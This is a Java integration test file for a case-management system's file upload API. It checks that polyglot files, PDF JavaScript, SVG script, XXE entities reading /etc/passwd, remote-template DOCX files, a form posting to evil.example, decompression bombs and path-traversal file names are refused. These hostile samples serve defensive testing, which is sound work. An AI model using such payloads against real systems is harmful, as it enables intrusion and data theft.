package org.shouwang.attack;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.stream.Collectors;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.junit.jupiter.api.Test;
import org.shouwang.support.Answer;
import org.shouwang.support.HarmfulFiles;
import org.shouwang.support.IntegrationTest;
import org.shouwang.support.PlayedClamav;
import org.shouwang.support.SampleFiles;
import org.shouwang.support.TestPeople;

/** Tests files that are not what they seem, that would do harm where they are opened, or that take too much room. */
class FilesTest extends IntegrationTest {

    private static final byte[] HTML = "<html><script>alert(1)</script></html>".getBytes(UTF_8);

    private String newFiles() {
        return "/api/cases/" + shouwang.newCase(TestPeople.somebody(), TODAY).caseNo() + "/files";
    }

    private Answer add(String files, String name, byte[] file) {
        return shouwang.village().upload(files, name, file, Map.of("kind", "其他材料"));
    }

    @Test
    void whatIsNoFileOfATakenTypeIsRefusedWithAdviceWhateverItsName() {
        String files = newFiles();
        byte[] gif = "GIF89a/*\1\0*/=1;alert(1)//".getBytes(ISO_8859_1);
        Map<String, byte[]> refused = new LinkedHashMap<>();
        refused.put("gif and script.jpg", gif);
        refused.put("page.html", HTML);
        refused.put("page.pdf", HTML);
        refused.put("drawing.svg", "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".getBytes(UTF_8));
        refused.put("drawing.png", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>".getBytes(UTF_8));
        refused.put("program.jpg", "MZ\u0090\0\3\0\0\0".getBytes(ISO_8859_1));
        refused.put("text.docx", "会议记录".getBytes(UTF_8));
        refused.put("archive.docx", SampleFiles.zip(Map.of("a.txt", "a".getBytes(UTF_8))));
        refused.put("pdf and zip.pdf", SampleFiles.together(SampleFiles.pdf(""), SampleFiles.zip(Map.of("a.html", HTML))));
        refused.put("pdf in a page.pdf", SampleFiles.together(HTML, SampleFiles.pdf("")));
        refused.put("page in a pdf.pdf", SampleFiles.pdf(new String(HTML, UTF_8)));
        refused.put("script.pdf", SampleFiles.pdf("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"));
        refused.put("script by another name.pdf", SampleFiles.pdf("3 0 obj\n<< /OpenAction << /S /J#61vaScript /JS (app.alert\\(1\\)) >> >>\nendobj"));
        refused.put("packed script.pdf", SampleFiles.pdfPacked("<< /S /JavaScript /JS (app.alert\\(1\\)) >>"));
        refused.put("form to elsewhere.pdf", SampleFiles.pdf("3 0 obj\n<< /S /SubmitForm /F (http://evil.example/) >>\nendobj"));
        refused.put("locked.pdf", SampleFiles.pdf("trailer << /Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /O (a) /U (a) /P -4 >> >>"));
        refused.put("half.pdf", Arrays.copyOf(SampleFiles.pdf("x".repeat(3000)), 2000));
        refused.put("page before.docx", SampleFiles.together(HTML, SampleFiles.docx()));
        refused.put("page behind.docx", SampleFiles.together(SampleFiles.docx(), HTML));
        refused.put("two archives.docx", SampleFiles.together(SampleFiles.docx(), SampleFiles.zip(Map.of("a.html", HTML))));
        refused.put("half.docx", Arrays.copyOf(SampleFiles.docx(), 900));
        refused.put("macros.docx", SampleFiles.docxWith("word/vbaProject.bin", new byte[9]));
        refused.put("macros by another name.docx", SampleFiles.docxWith("word/a.bin", new byte[9]));
        refused.put("a page in it.docx", SampleFiles.docxWith("word/a.html", HTML));
        refused.put("a path.docx", SampleFiles.docxWith("../../a.xml", new byte[9]));
        refused.put("an object.docx", SampleFiles.docxWith("word/embeddings/a.xml", new byte[9]));
        refused.put("template.docx", SampleFiles.docxWith("word/_rels/settings.xml.rels", ("<Relationship Type=\"http://a/attachedTemplate\" "
                + "Target=\"http://example.com/a.dotm\" TargetMode=\"External\"/>").getBytes(UTF_8)));
        refused.put("entity.docx", SampleFiles.docxWith("word/styles.xml", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>".getBytes(UTF_8)));
        refused.put("entity in another encoding.docx", SampleFiles.docxWith("word/styles.xml", "<!DOCTYPE a []><a/>".getBytes(UTF_16)));
        refused.put("macros.docm", SampleFiles.document("x\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml"));
        refused.put("slides.docx", SampleFiles.document("presentationml.presentation.main+xml"));

        refused.forEach((name, file) -> {
            Answer answer = add(files, name, file);
            assertThat(answer.status()).as(name + answer.text()).isEqualTo(415);
            assertThat(answer.messageOf("file")).as(name).containsPattern("请|可以上传").doesNotContain("http");
        });

        assertThat(add(files, "a.jpg", gif).messageOf("file")).contains("请改存为 JPG");
        assertThat(shouwang.village().get(files).body().path("items")).isEmpty();
    }

    @Test
    void whatHidesBehindAPictureIsGone() {
        String files = newFiles();
        for (byte[] picture : List.of(SampleFiles.together(SampleFiles.image(20, 20, "jpg"), HTML), SampleFiles.together(SampleFiles.image(20, 20, "png"),
                SampleFiles.zip(Map.of("a.html", HTML))))) {
            HttpResponse<byte[]> kept = shouwang.village().download(files + "/" + add(files, "a.html", picture).get("id"));

            assertThat(new String(kept.body(), ISO_8859_1)).doesNotContain("<script", "PK\3\4");
            assertThat(kept.headers().firstValue("Content-Type").orElse("")).startsWith("image/");
            assertThat(kept.headers().firstValue("Content-Disposition").orElse("")).startsWith("attachment").doesNotContain("html");
            assertThat(kept.headers().firstValue("Content-Security-Policy").orElse("")).contains("sandbox");
        }
    }

    @Test
    void aSmallFileThatWouldTakeAllMemoryIsRefusedBeforeItIsRead() {
        String files = newFiles();

        assertThat(add(files, "a.png", SampleFiles.png(30_000, 30_000)).status()).isEqualTo(413);
        assertThat(add(files, "a.png", SampleFiles.png(Integer.MAX_VALUE, Integer.MAX_VALUE)).status()).isIn(413, 415);
        assertThat(add(files, "a.png", SampleFiles.png(0, 5)).status()).isEqualTo(415);
        assertThat(add(files, "a.docx", SampleFiles.bomb(201_000_000)).status()).isEqualTo(413);
        assertThat(add(files, "a.docx", SampleFiles.bomb(100_000_000)).status()).as("much in little").isEqualTo(413);
        assertThat(add(files, "a.pdf", SampleFiles.pdfPacked("<< /A 1 >>", 100_000_000)).status()).isEqualTo(413);
        HarmfulFiles.all(20_000_000).forEach((name, harmful) -> assertThat(add(files, "a.xlsx", harmful.file().get()).status()).as(name).isIn(413, 415));
        assertThat(shouwang.village().get(files).body().path("items")).isEmpty();
    }

    @Test
    void anOrdinaryPdfIsTakenAlsoIfItsObjectsArePacked() throws IOException {
        String files = newFiles();
        ByteArrayOutputStream made = new ByteArrayOutputStream();
        try (PDDocument document = new PDDocument()) {
            document.addPage(new PDPage());
            document.save(made);
        }

        for (byte[] pdf : List.of(SampleFiles.pdf(""), SampleFiles.pdfPacked("<< /Title (JavaScript) >>"), made.toByteArray())) {
            Answer added = add(files, "a.pdf", pdf);

            assertThat(added.status()).as(added.text()).isEqualTo(201);
        }
        assertThat(new String(made.toByteArray(), ISO_8859_1)).contains("/ObjStm");
    }

    @Test
    void aPictureThatIsCutOffOrDamagedIsRefused() {
        String files = newFiles();
        byte[] jpeg = SampleFiles.photo(400, 300);
        byte[] png = SampleFiles.image(400, 300, "png");
        ByteArrayOutputStream scans = new ByteArrayOutputStream();
        scans.write(jpeg, 0, jpeg.length - 2);
        for (int i = 0; i < 500; i++) {
            scans.writeBytes(new byte[] {(byte) 0xFF, (byte) 0xDA, 0, 2});
        }
        scans.write(jpeg, jpeg.length - 2, 2);
        byte[] half = Arrays.copyOf(jpeg, jpeg.length / 2 + 2);
        half[half.length - 2] = (byte) 0xFF;
        half[half.length - 1] = (byte) 0xD9;

        for (byte[] damaged : List.of(Arrays.copyOf(jpeg, 40), Arrays.copyOf(png, 60), Arrays.copyOf(SampleFiles.webp(), 20), scans.toByteArray(), half,
                SampleFiles.hidden(scans.toByteArray(), 0x01))) {
            assertThat(add(files, "a.jpg", damaged).messageOf("file")).contains("重新拍照");
        }
    }

    @Test
    void theNameIsShownCleanAndIsNeverAPath() {
        String files = newFiles();
        Map<String, String> names = new LinkedHashMap<>();
        names.put("../../etc/passwd", "passwd.png");
        names.put("C:\\\\Users\\\\a\\\\公示.png", "公示.png");
        names.put("照片\u202Egnp.exe", "照片gnp.png");
        names.put("a<script>b.png", "ascriptb.png");
        names.put("..", "其他材料.png");
        names.put("411081190003030017.png", "其他材料.png");
        names.put("长".repeat(300) + ".png", "长".repeat(80) + ".png");
        names.put("\u200B.png", "其他材料.png");

        names.forEach((given, shown) -> {
            Answer added = add(files, given, SampleFiles.image(5, 5, "png"));
            assertThat(added.status()).as(given + added.text()).isEqualTo(201);
            assertThat(shouwang.village().get(files).body().path("items").path(0).path("name").asText()).as(given).isEqualTo(shown);
        });
    }

    @Test
    void tenMegabytesAreTakenAndOneByteMoreIsNot() {
        String files = newFiles();
        int most = 10 * 1024 * 1024;

        assertThat(add(files, "a.png", SampleFiles.padded(SampleFiles.image(5, 5, "png"), most)).status()).isEqualTo(201);
        Answer more = add(files, "a.png", SampleFiles.padded(SampleFiles.image(5, 5, "png"), most + 1));
        assertThat(more.status()).isEqualTo(413);
        assertThat(more.text()).contains("10MB");
        assertThat(add(files, "a.png", new byte[21_000_000]).status()).isEqualTo(413);
        assertThat(add(files, "a.png", new byte[0]).messageOf("file")).contains("空的");
        assertThat(add(files, "a.jpg", Arrays.copyOf(SampleFiles.photo(400, 300), 2000)).status()).isEqualTo(415);
    }

    @Test
    void uploadsAtTheSameMomentWaitForEachOtherAndTogetherStayBelowTheLimitOfTheCase() throws Exception {
        String files = newFiles();
        byte[] pdf = SampleFiles.pdf("x".repeat(1_000_000));
        String caseNo = files.split("/")[3];
        database.sql("insert into shouwang.attachment_total (owner, files, bytes) values (?, 0, ?)").params(caseNo, 100 * 1024 * 1024 - 2_500_000).update();
        ExecutorService together = Executors.newFixedThreadPool(4);
        try {
            List<Future<Answer>> answers = new ArrayList<>();
            for (String user : List.of("village411081101201", "township411081101", "county411081", "village411081101201")) {
                answers.add(together.submit(() -> shouwang.as(user).upload(files, "a.pdf", pdf, Map.of("kind", "其他材料"))));
            }
            List<Answer> given = new ArrayList<>();
            for (Future<Answer> answer : answers) {
                given.add(answer.get());
            }

            assertThat(given.stream().map(Answer::status).sorted().collect(Collectors.toList())).containsExactly(201, 201, 413, 413);
            assertThat(given.stream().filter(answer -> answer.status() == 413)).allMatch(answer -> answer.text().contains("100MB"));
        } finally {
            together.shutdown();
        }
        assertThat(shouwang.village().get(files).body().path("items")).hasSize(2);
        assertThat(database.sql("select bytes from shouwang.attachment_total where owner = ?").param(caseNo).query(Long.class).single())
                .isLessThanOrEqualTo(100 * 1024 * 1024);
    }

    @Test
    void aFileWithAVirusIsRefusedAndWhileTheScannerIsAwayNothingIsKept() {
        String files = newFiles();

        Answer infected = add(files, "a.pdf", SampleFiles.pdf(PlayedClamav.EICAR));
        assertThat(infected.status()).isEqualTo(422);
        assertThat(infected.get("detail")).contains("病毒", "没有保存");
        try {
            PlayedClamav.setDown(true);
            Answer unseen = add(files, "a.pdf", SampleFiles.pdf(""));
            assertThat(unseen.status()).isEqualTo(503);
            assertThat(unseen.get("detail")).contains("病毒检查暂时不能用", "没有保存");
            assertThat(unseen.retryAfter()).isNotNull();
        } finally {
            PlayedClamav.setDown(false);
        }
        assertThat(shouwang.village().get(files).body().path("items")).isEmpty();
        assertThat(add(files, "a.pdf", SampleFiles.pdf("")).status()).isEqualTo(201);
    }

    @Test
    void oddRequestsAreAnsweredInChinese() {
        String files = newFiles();
        byte[] png = SampleFiles.image(5, 5, "png");

        assertThat(shouwang.village().upload(files, "a.png", png, Map.of()).messageOf("kind")).contains("必填");
        assertThat(shouwang.village().upload(files, "a.png", png, Map.of("kind", "不存在")).messageOf("kind")).contains("承诺授权书");
        Answer nul = shouwang.village().upload(files, "a.png", png, Map.of("kind", "会议记录\0"));
        assertThat(nul.status()).isEqualTo(400);
        assertThat(nul.get("detail")).contains("请求有误");
        assertThat(shouwang.village().post(files, Map.of("kind", "承诺授权书")).messageOf("kind")).contains("必填");
        assertThat(shouwang.village().send("POST", files + "?kind=OTHER", "", Map.of()).messageOf("file")).contains("必填");
        for (String id : List.of("0", "x", "99999999999999999999", "-1", "%00", "1%2F..")) {
            assertThat(shouwang.village().get(files + "/" + id).status()).as(id).isIn(400, 404);
            assertThat(shouwang.village().send("DELETE", files + "/" + id + "?reason=x", null, Map.of()).status()).as(id).isIn(400, 404);
        }
        assertThat(shouwang.village().get(files + "?limit=0").status()).isEqualTo(400);
        assertThat(shouwang.village().get(files + "?cursor=x").status()).isEqualTo(400);
        String id = add(files, "a.png", png).get("id");
        for (String reason : List.of("%00", "a".repeat(201), "411081190003030017")) {
            assertThat(shouwang.village().send("DELETE", files + "/" + id + "?reason=" + reason, null, Map.of()).status()).as(reason).isEqualTo(400);
        }
        assertThat(shouwang.village().send("DELETE", files + "/" + id, "[]", Map.of("Content-Type", "application/json")).status()).isEqualTo(400);
    }
}
